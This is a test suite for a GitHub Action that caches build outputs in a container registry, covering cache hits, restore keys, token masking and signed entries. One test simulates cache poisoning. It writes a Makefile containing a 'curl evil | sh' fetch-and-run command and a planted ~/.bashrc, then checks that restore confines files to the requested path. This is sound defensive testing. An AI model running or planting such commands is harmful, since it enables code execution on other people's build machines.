// The action with the real regcache against loopback registries: restore, post-step save, hits,
// restore keys, lookup-only, fail-on-cache-miss, save-if and forks, save errors, the token.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { Job, REGCACHE_BIN, commands, startServices } from './helpers.mjs';

// Set by whoever knows regcache writes the job-summary table ($GITHUB_STEP_SUMMARY) itself.
const EXPECT_SUMMARY = process.env.REGCACHE_EXPECT_SUMMARY === '1';

let services;
let run;  // a repository prefix unique to this run: the registries' storage outlives it
before(async () => {
  services = await startServices();
  run = `action-${Date.now().toString(36)}-${process.pid}`;
});
after(() => services && services.stop());

// Inputs for a cache in repository `name` of the open registry.
function inputs(name, extra = {}) {
  return {
    path: 'target', store: `${services.vars.REG_OPEN}/${run}/${name}`,
    'regcache-path': REGCACHE_BIN, 'job-status': 'success', ...extra,
  };
}

const outputs = (r) => [r.outputs['cache-hit'], r.outputs['cache-primary-key'], r.outputs['cache-matched-key']];
const ok = (r) => assert.equal(r.code, 0, `step failed:\n${r.stdout}\n${r.stderr}`);

// Runs a job that builds target/ and saves it under `key` (a miss, then the post step).
async function seed(cacheInputs, key, content = 'built') {
  const job = new Job();
  job.write('target/out.txt', content);
  const main = await job.run('main.js', { ...cacheInputs, key });
  ok(main);
  const post = await job.run('post.js', { ...cacheInputs, key });
  ok(post);
  assert.deepEqual(commands(post.stdout, 'warning'), []);
  return { job, main, post };
}

test('miss, then the post step saves; the next job hits and the post step skips', async () => {
  const cache = inputs('flow', { 'restore-keys': 'deps-' });
  const { main, post } = await seed(cache, 'deps-1');
  assert.deepEqual(outputs(main), ['false', 'deps-1', '']);
  if (EXPECT_SUMMARY) {
    assert.match(main.summary, /\|.*deps-1/, 'regcache writes a summary row for the restore');
    assert.match(post.summary, /\|.*deps-1/, 'regcache writes a summary row for the save');
  }
  const job = new Job();
  const hit = await job.run('main.js', { ...cache, key: 'deps-1' });
  ok(hit);
  assert.deepEqual(outputs(hit), ['true', 'deps-1', 'deps-1']);
  assert.equal(fs.readFileSync(path.join(job.workspace, 'target/out.txt'), 'utf8'), 'built');
  const skip = await job.run('post.js', { ...cache, key: 'deps-1' });
  ok(skip);
  assert.match(skip.stdout, /Not saving the cache: exact hit on key deps-1/);
  assert.equal(skip.stderr, '', 'regcache did not run');
});

test('a restore key gives a partial match: cache-hit false, the matched key, a save under the new key', async () => {
  const cache = inputs('partial', { 'restore-keys': 'deps-\nother-' });
  await seed(cache, 'deps-old', 'old');
  const job = new Job();
  const main = await job.run('main.js', { ...cache, key: 'deps-new' });
  ok(main);
  assert.deepEqual(outputs(main), ['false', 'deps-new', 'deps-old']);
  assert.equal(fs.readFileSync(path.join(job.workspace, 'target/out.txt'), 'utf8'), 'old');
  job.write('target/out.txt', 'new');
  ok(await job.run('post.js', { ...cache, key: 'deps-new' }));
  const next = new Job();
  const hit = await next.run('main.js', { ...cache, key: 'deps-new' });
  assert.deepEqual(outputs(hit), ['true', 'deps-new', 'deps-new']);
  assert.equal(fs.readFileSync(path.join(next.workspace, 'target/out.txt'), 'utf8'), 'new');
});

test('lookup-only reports matches and restores nothing; the post step saves after a miss, as actions/cache', async () => {
  const cache = inputs('lookup', { 'restore-keys': 'lk-', 'lookup-only': 'true' });
  await seed(inputs('lookup'), 'lk-1');
  const job = new Job();
  const exact = await job.run('main.js', { ...cache, key: 'lk-1' });
  ok(exact);
  assert.deepEqual(outputs(exact), ['true', 'lk-1', 'lk-1']);
  const partial = await job.run('main.js', { ...cache, key: 'lk-2' });
  assert.deepEqual(outputs(partial), ['false', 'lk-2', 'lk-1']);
  assert.equal(fs.existsSync(path.join(job.workspace, 'target')), false, 'nothing restored');
  job.write('target/out.txt', 'x');
  const post = await job.run('post.js', { ...cache, key: 'lk-2' });
  ok(post);
  assert.deepEqual(commands(post.stdout, 'warning'), []);
  // actions/cache: lookup-only "does not change save cache behavior"; an exact hit still skips.
  const again = await job.run('main.js', { ...cache, key: 'lk-2' });
  assert.deepEqual(outputs(again), ['true', 'lk-2', 'lk-2'], 'the post step saved lk-2');
  const skip = await job.run('post.js', { ...cache, key: 'lk-2' });
  ok(skip);
  assert.match(skip.stdout, /Not saving the cache: exact hit on key lk-2/);
});

test('no binary to be had is a warning and a job without a cache, not a failed job', async () => {
  const cache = inputs('nobinary', { 'regcache-path': '', key: 'nb-1' });
  const job = new Job();
  const env = { RUNNER_OS: 'macOS', RUNNER_ARCH: 'ARM64' };
  const main = await job.run('main.js', cache, env);
  ok(main);
  assert.deepEqual(outputs(main), ['false', '', '']);
  assert.match(commands(main.stdout, 'warning').join('\n'), /Cache not restored: no regcache release for macOS/);
  const failing = await job.run('main.js', { ...cache, 'fail-on-cache-miss': 'true' }, env);
  assert.notEqual(failing.code, 0, 'fail-on-cache-miss still fails the step');
  const save = await job.run('save.js', cache, env);
  ok(save);
  assert.match(commands(save.stdout, 'warning').join('\n'), /Cache not saved: no regcache release for macOS/);
});

test('fail-on-cache-miss fails the step with an error, and the post step then saves nothing', async () => {
  const cache = inputs('failmiss', { 'fail-on-cache-miss': 'true', 'save-on-failure': 'true' });
  const job = new Job();
  const main = await job.run('main.js', { ...cache, key: 'absent-1', 'restore-keys': 'absent-' });
  assert.notEqual(main.code, 0);
  assert.match(commands(main.stdout, 'error').join('\n'), /Cache not found for key absent-1/);
  assert.equal(main.outputs['cache-hit'], 'false');
  job.write('target/out.txt', 'x');
  const post = await job.run('post.js', { ...cache, key: 'absent-1', 'job-status': 'failure' });
  ok(post);
  assert.match(post.stdout, /Not saving the cache: the restore step did not finish/);
});

test('save-if false, or a pull request from a fork, skips the save', async () => {
  const cache = inputs('saveif');
  const job = new Job();
  job.write('target/out.txt', 'x');
  ok(await job.run('main.js', { ...cache, key: 'si-1', 'save-if': 'false' }));
  const post = await job.run('post.js', { ...cache, key: 'si-1', 'save-if': 'false' });
  ok(post);
  assert.match(post.stdout, /Not saving the cache: save-if is false/);

  const event = { pull_request: { head: { repo: { full_name: 'someone/app', fork: true } } } };
  const fork = new Job({ eventName: 'pull_request', event });
  fork.write('target/out.txt', 'x');
  ok(await fork.run('main.js', { ...cache, key: 'si-1' }));
  const forkPost = await fork.run('post.js', { ...cache, key: 'si-1' });
  ok(forkPost);
  assert.match(forkPost.stdout, /Not saving the cache: this run is for a pull request from a fork/);

  const later = await new Job().run('main.js', { ...cache, key: 'si-1' });
  assert.deepEqual(outputs(later), ['false', 'si-1', ''], 'nothing was saved');
});

test('a failed save is a warning, and fails the step only with fail-on-save-error', async () => {
  const cache = inputs('saveerr', { path: 'missing-dir' });
  const job = new Job();
  ok(await job.run('main.js', { ...cache, key: 'se-1' }));
  const warned = await job.run('post.js', { ...cache, key: 'se-1' });
  ok(warned);
  assert.match(commands(warned.stdout, 'warning').join('\n'), /Cache not saved: .*missing-dir/);
  // fail-on-save-error is one of the options the main step records for the post step.
  const strict = new Job();
  const strictInputs = { ...cache, key: 'se-1', 'fail-on-save-error': 'true' };
  ok(await strict.run('main.js', strictInputs));
  const failed = await strict.run('post.js', strictInputs);
  assert.notEqual(failed.code, 0);
  assert.match(commands(failed.stdout, 'error').join('\n'), /Cache not saved: .*missing-dir/);
});

test('the token reaches regcache (token-auth registry) and is never printed or written', async () => {
  const { REG_TOKEN, REG_TOKEN_USER, REG_TOKEN_PASSWORD, TOKEN_LOG } = services.vars;
  const repo = `${run}/token`;
  const cache = {
    path: 'target', store: `${REG_TOKEN}/${repo}`, token: REG_TOKEN_PASSWORD, username: REG_TOKEN_USER,
    'regcache-path': REGCACHE_BIN, 'job-status': 'success',
  };
  const { job, main, post } = await seed(cache, 'tok-1');
  const again = await new Job().run('main.js', { ...cache, key: 'tok-1' });
  assert.deepEqual(outputs(again), ['true', 'tok-1', 'tok-1']);
  const log = fs.readFileSync(TOKEN_LOG, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l));
  assert.ok(log.some((e) => e.user === REG_TOKEN_USER && e.auth === 'ok' && JSON.stringify(e.scopes).includes(repo)),
    'regcache authenticated with the token input');
  assert.deepEqual(commands(main.stdout, 'add-mask'), [REG_TOKEN_PASSWORD], 'masked first');
  const stateFile = path.join(job.temp, 'regcache-state.json');
  for (const step of [main, post, again]) {
    const unmasked = step.stdout.split('\n').filter((l) => !l.startsWith('::add-mask::')).join('\n');
    for (const text of [unmasked, step.stderr, step.files]) assert.ok(!text.includes(REG_TOKEN_PASSWORD));
  }
  if (fs.existsSync(stateFile)) assert.ok(!fs.readFileSync(stateFile, 'utf8').includes(REG_TOKEN_PASSWORD));

  const wrong = { ...cache, token: 'wrong-password' };
  const bad = new Job();
  bad.write('target/out.txt', 'x');
  const badMain = await bad.run('main.js', { ...wrong, key: 'tok-2' });
  ok(badMain);
  assert.match(commands(badMain.stdout, 'warning').join('\n'), /Cache not restored/);
  const badPost = await bad.run('post.js', { ...wrong, key: 'tok-2' });
  ok(badPost);
  assert.match(commands(badPost.stdout, 'warning').join('\n'), /Cache not saved/);
  assert.ok(!badPost.stdout.replace(/^::add-mask::.*$/m, '').includes('wrong-password'));
});

test('an entry with extra home/ and abs/ roots, matched by a restore key, writes only the path input', async () => {
  // The attacker runs regcache itself: out/ plus ~/.bashrc plus an absolute file.
  const cache = inputs('confined', { 'restore-keys': 'widget-' });
  const attacker = new Job();
  attacker.write('out/app.js', 'app');
  attacker.write('Makefile', 'all:\n\tcurl evil | sh\n');  // a workspace root the victim does not cache
  const planted = path.join(attacker.root, 'elsewhere', 'planted.sh');
  fs.mkdirSync(path.dirname(planted));
  fs.writeFileSync(planted, 'echo planted');
  fs.writeFileSync(path.join(attacker.env.HOME, '.bashrc'), 'echo pwned');
  const saved = spawnSync(REGCACHE_BIN, ['--store', cache.store, 'save', '--key', 'widget-evil', 'out',
    'Makefile', '~/.bashrc', planted], { cwd: attacker.workspace, env: attacker.env, encoding: 'utf8' });
  assert.equal(saved.status, 0, saved.stderr);
  fs.rmSync(planted);
  fs.rmSync(path.join(attacker.env.HOME, '.bashrc'));

  // The victim: path out, restore-keys widget-; same home and file system layout.
  const victim = new Job();
  victim.env.HOME = attacker.env.HOME;
  const main = await victim.run('main.js', { ...cache, path: 'out', key: 'widget-1' });
  ok(main);
  assert.deepEqual(outputs(main), ['false', 'widget-1', 'widget-evil']);
  assert.equal(fs.readFileSync(path.join(victim.workspace, 'out/app.js'), 'utf8'), 'app');
  assert.ok(!fs.existsSync(path.join(attacker.env.HOME, '.bashrc')), 'the restore wrote ~/.bashrc');
  assert.ok(!fs.existsSync(planted), 'the restore wrote an absolute path');
  assert.ok(!fs.existsSync(path.join(victim.workspace, 'Makefile')), 'the restore wrote a root not in path');
  assert.match(main.stderr + main.stdout, /Not restoring .*home\/\.bashrc/);
});

// Two key pairs from regcache keygen, as a repository's secret and variable would hold them.
function keyPair(dir) {
  const r = spawnSync(REGCACHE_BIN, ['--json', 'keygen', '--out', dir], { encoding: 'utf8' });
  assert.equal(r.status, 0, r.stderr);
  return {
    key: fs.readFileSync(path.join(dir, 'regcache.key'), 'utf8'),
    pub: fs.readFileSync(path.join(dir, 'regcache.pub'), 'utf8'),
    fingerprint: JSON.parse(r.stdout).fingerprint,
  };
}

test('sign-key signs the post step\'s save, verify-keys restores only signed entries, the key is never shown', async () => {
  const keysDir = fs.mkdtempSync(path.join(fs.realpathSync(process.env.TMPDIR || '/tmp'), 'regcache-keys-'));
  try {
    const trusted = keyPair(path.join(keysDir, 'trusted'));
    const other = keyPair(path.join(keysDir, 'other'));
    const cache = inputs('signed', { 'restore-keys': 'sig-', 'verify-keys': trusted.pub });
    // An unsigned entry first: a verifying job does not take it.
    await seed(inputs('signed'), 'sig-unsigned', 'unsigned');
    const { main, post } = await seed({ ...cache, 'sign-key': trusted.key }, 'sig-1', 'signed');
    assert.deepEqual(outputs(main), ['false', 'sig-1', ''], 'the unsigned entry is not a match');
    const body = trusted.key.split('\n').filter((l) => l && !l.startsWith('-----'));
    for (const line of body) {
      assert.ok(!post.stdout.replace(/::add-mask::.*\n/g, '').includes(line), 'the signing key reached the log');
      assert.ok(!post.stderr.includes(line) && !main.stdout.replace(/::add-mask::.*\n/g, '').includes(line));
      assert.ok(commands(post.stdout, 'add-mask').includes(line), 'the signing key is masked');
    }
    const job = new Job();
    const hit = await job.run('main.js', { ...cache, key: 'sig-2' });
    ok(hit);
    assert.deepEqual(outputs(hit), ['false', 'sig-2', 'sig-1']);
    assert.equal(fs.readFileSync(path.join(job.workspace, 'target/out.txt'), 'utf8'), 'signed');
    const foreign = await new Job().run('main.js', { ...cache, key: 'sig-2', 'verify-keys': other.pub });
    ok(foreign);
    assert.deepEqual(outputs(foreign), ['false', 'sig-2', ''], 'no entry is signed by the other key');
  } finally {
    fs.rmSync(keysDir, { recursive: true, force: true });
  }
});

test('local-cache keeps blobs on the runner: the next job restores from them', async () => {
  const tier = fs.mkdtempSync(path.join(fs.realpathSync(process.env.TMPDIR || '/tmp'), 'regcache-tier-'));
  try {
    const cache = inputs('tier', { 'local-cache': tier, 'local-cache-max': '1GiB' });
    await seed(cache, 'tier-1', 'kept');
    const blobs = fs.readdirSync(path.join(tier, 'blobs', 'sha256'));
    assert.ok(blobs.length >= 3, `the save kept its blobs in the local cache: ${blobs}`);
    const job = new Job();
    const hit = await job.run('main.js', { ...cache, key: 'tier-1' });
    ok(hit);
    assert.deepEqual(outputs(hit), ['true', 'tier-1', 'tier-1']);
    assert.equal(fs.readFileSync(path.join(job.workspace, 'target/out.txt'), 'utf8'), 'kept');
  } finally {
    fs.rmSync(tier, { recursive: true, force: true });
  }
});
